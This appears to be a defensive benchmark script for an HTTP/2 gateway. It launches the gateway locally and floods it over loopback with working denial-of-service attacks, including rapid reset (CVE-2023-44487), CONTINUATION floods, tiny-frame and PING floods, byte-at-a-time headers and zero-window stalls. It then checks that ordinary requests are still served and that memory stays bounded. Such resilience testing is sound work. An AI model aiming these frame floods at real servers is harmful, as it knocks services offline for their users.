#!/usr/bin/env python3
"""Abuse of HTTP/2, written as frames: bench/http2_abuse.py HOST_BINARY [SECONDS]

For so many seconds each (10 unless said otherwise), four clients attack the gateway over loopback, and come back each
time they are cut off:

- resets: streams that are reset at once (CVE-2023-44487);
- continuation: header blocks without end (CVE-2024-27316);
- tiny: DATA frames of one byte and of none, SETTINGS and PINGs without pause;
- slow heads: header blocks that come a byte at a time, 100 on each client;
- windows: 50 answers for which no window is open, then opened a byte at a time (CVE-2019-9511, 9517). All attackers
  ask for fewer at a time than a service takes: beyond that it refuses calls, whoever makes them.

Meanwhile others ask a component for a small answer, 50 times a second, each on a connection of its own. It fails if one
of them gets another answer than 200, if the host's memory grows by more than the bound below, or if a component was
called for a stream that was reset at once. It prints p50 and p99 before and beside each attack: attackers, host and
others share the processors of this machine, so these are for reading. Only the standard library is needed.
"""

import asyncio
import os
import re
import subprocess
import sys
import tempfile
import time
import urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))
COMPONENT = os.path.join(HERE, "..", "components", "dist", "fixture-bench.wasm")
ATTACKERS = 4
RATE = 50
# MiB. A connection may have windows of 1 MiB for bodies, and 100 streams 64 KiB each of answers on their way; the rest
# is what the allocator keeps, and the instances' pages.
GROWTH = 64
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, content=b""):
    return len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + content


def block(path, method="GET"):
    """Literals without indexing (RFC 7541, section 6.2.2)."""
    fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "a")]
    return b"".join(
        bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode() for name, value in fields
    )


def get(stream, path):
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, block(path))


async def drop(reader):
    while await reader.read(1 << 16):
        pass


async def push(writer, flood):
    """Sends, if the connection is still there, and lets the other tasks run."""
    if writer.is_closing():
        raise ConnectionResetError
    writer.write(flood)
    await writer.drain()
    await asyncio.sleep(0)


async def resets(writer):
    code = (8).to_bytes(4, "big")
    stream = 1
    while True:
        bytes_ = b""
        for _ in range(50):
            bytes_ += get(stream, "/attacked/json") + frame(RESET, 0, stream, code)
            stream += 2
        await push(writer, bytes_)


async def continuation(writer):
    writer.write(frame(HEADERS, END_STREAM, 1, block("/others/json")))
    more = frame(CONTINUATION, 0, 1, b"\0\x07a-field\x10" + b"x" * 16)
    while True:
        await push(writer, more * 100)


async def tiny(writer):
    writer.write(frame(HEADERS, END_HEADERS, 1, block("/others/json", "POST")))
    flood = (frame(DATA, 0, 1, b"x") + frame(DATA, 0, 1) + frame(SETTINGS, 0, 0) + frame(PING, 0, 0, b"x" * 8)) * 50
    while True:
        await push(writer, flood)


async def slow_heads(writer):
    head = block("/others/json")
    # One block at a time may be open on a connection (RFC 9113, section 6.10).
    writer.write(frame(HEADERS, END_STREAM, 1, head[:1]))
    for at in range(1, len(head)):
        await push(writer, frame(CONTINUATION, 0, 1, head[at : at + 1]))
        await asyncio.sleep(0.5)


async def windows(writer):
    streams = range(1, 101, 2)
    writer.write(b"".join(get(stream, "/others/stream?100") for stream in streams))
    while True:
        await push(writer, b"".join(frame(WINDOW, 0, stream, (1).to_bytes(4, "big")) for stream in streams))
        await asyncio.sleep(0.01)


# The SETTINGS of a client: initial windows of 0 for `windows`.
ATTACKS = {
    "resets": (resets, b"", 1),
    "continuation": (continuation, b"", 1),
    "tiny": (tiny, b"", 1),
    "slow heads": (slow_heads, b"", 100),
    "windows": (windows, (4).to_bytes(2, "big") + (0).to_bytes(4, "big"), 1),
}


async def attack(port, how, settings):
    """Attacks again and again, until it is cancelled."""
    while True:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(PREFACE + frame(SETTINGS, 0, 0, settings))
            ends = [asyncio.create_task(drop(reader)), asyncio.create_task(how(writer))]
            try:
                await asyncio.wait(ends, return_when=asyncio.FIRST_COMPLETED)
            finally:
                for end in ends:
                    end.cancel()
                await asyncio.gather(*ends, return_exceptions=True)
                writer.transport.abort()
        except OSError:
            pass
        await asyncio.sleep(0.05)


async def quick(port):
    began = time.perf_counter()
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(b"GET /others/json HTTP/1.1\r\nhost: a\r\nconnection: close\r\n\r\n")
    answer = await reader.read()
    writer.close()
    return answer[9:12], time.perf_counter() - began


async def others(port, seconds):
    began, tasks = time.perf_counter(), []
    for number in range(RATE * seconds):
        await asyncio.sleep(max(0.0, began + number / RATE - time.perf_counter()))
        tasks.append(asyncio.create_task(quick(port)))
    return await asyncio.gather(*tasks)


def attackers(name, port, seconds):
    """The attackers are processes of their own, so that they hold up nobody who measures."""
    return subprocess.Popen([sys.executable, __file__, "--attack", name, str(port), str(seconds + 2)])


async def attack_for(name, port, seconds):
    how, settings, each = ATTACKS[name]
    tasks = [asyncio.create_task(attack(port, how, settings)) for _ in range(ATTACKERS * each)]
    await asyncio.sleep(seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


def resident(pid):
    with open(f"/proc/{pid}/status", encoding="ascii") as status:
        return int(re.search(r"VmRSS:\s+(\d+) kB", status.read())[1]) / 1024


def calls(admin, service):
    """How many calls reached the service."""
    with urllib.request.urlopen(f"http://127.0.0.1:{admin}/v1/services/{service}", timeout=10) as answer:
        return int(re.search(rb'"requests":\s*(\d+)', answer.read())[1])


def start(binary, folder):
    services = "".join(
        f'[service.{name}]\ncomponent = "{COMPONENT}"\n[[route]]\nprefix = "/{name}"\nstrip_prefix = "/{name}"\n'
        f'service = "{name}"\n'
        for name in ("others", "attacked")
    )
    with open(f"{folder}/atoll.toml", "w", encoding="ascii") as manifest:
        manifest.write("[gateway.http2]\nprior_knowledge = true\n" + services)
    environment = dict(os.environ, ATOLL_GATEWAY_LISTEN="127.0.0.1:0", ATOLL_ADMIN_LISTEN="127.0.0.1:0")
    environment["ATOLL_LOG"] = "access=off,error"
    quiet = subprocess.DEVNULL
    host = subprocess.Popen(
        [binary, "run", "atoll.toml"], cwd=folder, env=environment, text=True, stdout=subprocess.PIPE, stderr=quiet
    )
    ports = {}
    while len(ports) < 2:
        line = host.stdout.readline()
        found = re.match(r"(gateway|admin) listening on http://.*:(\d+)", line)
        if found:
            ports[found[1]] = int(found[2])
        elif not line:
            sys.exit("the host did not start")
    return host, ports["gateway"], ports["admin"]


def milliseconds(results):
    times = sorted(took * 1e3 for _, took in results)
    return f"p50 {times[len(times) // 2]:6.1f} ms  p99 {times[len(times) * 99 // 100]:6.1f} ms"


async def main():
    binary, seconds = os.path.abspath(sys.argv[1]), int(sys.argv[2]) if len(sys.argv) > 2 else 10
    wrong = []
    with tempfile.TemporaryDirectory() as folder:
        host, port, admin = start(binary, folder)
        try:
            await others(port, 2)
            before = resident(host.pid)
            print(f"{'quiet':14}{milliseconds(await others(port, seconds))}  {before:5.0f} MiB", flush=True)
            for name in ATTACKS:
                attacking = attackers(name, port, seconds)
                await asyncio.sleep(0.5)
                results = await others(port, seconds)
                attacking.wait()
                now = resident(host.pid)
                print(f"{name:14}{milliseconds(results)}  {now:5.0f} MiB", flush=True)
                failed = sum(status != b"200" for status, _ in results)
                if failed:
                    wrong.append(f"{name}: {failed} of {len(results)} others were not served")
                if now > before + GROWTH:
                    wrong.append(f"{name}: the memory grew by {now - before:.0f} MiB, and {GROWTH} are the bound")
                if name == "resets" and calls(admin, "attacked"):
                    wrong.append(f"{calls(admin, 'attacked')} calls for streams that were reset at once")
        finally:
            host.kill()
            host.wait()
    for sentence in wrong:
        print(sentence)
    sys.exit(1 if wrong else 0)


if sys.argv[1:2] == ["--attack"]:
    asyncio.run(attack_for(sys.argv[2], int(sys.argv[3]), float(sys.argv[4])))
else:
    asyncio.run(main())
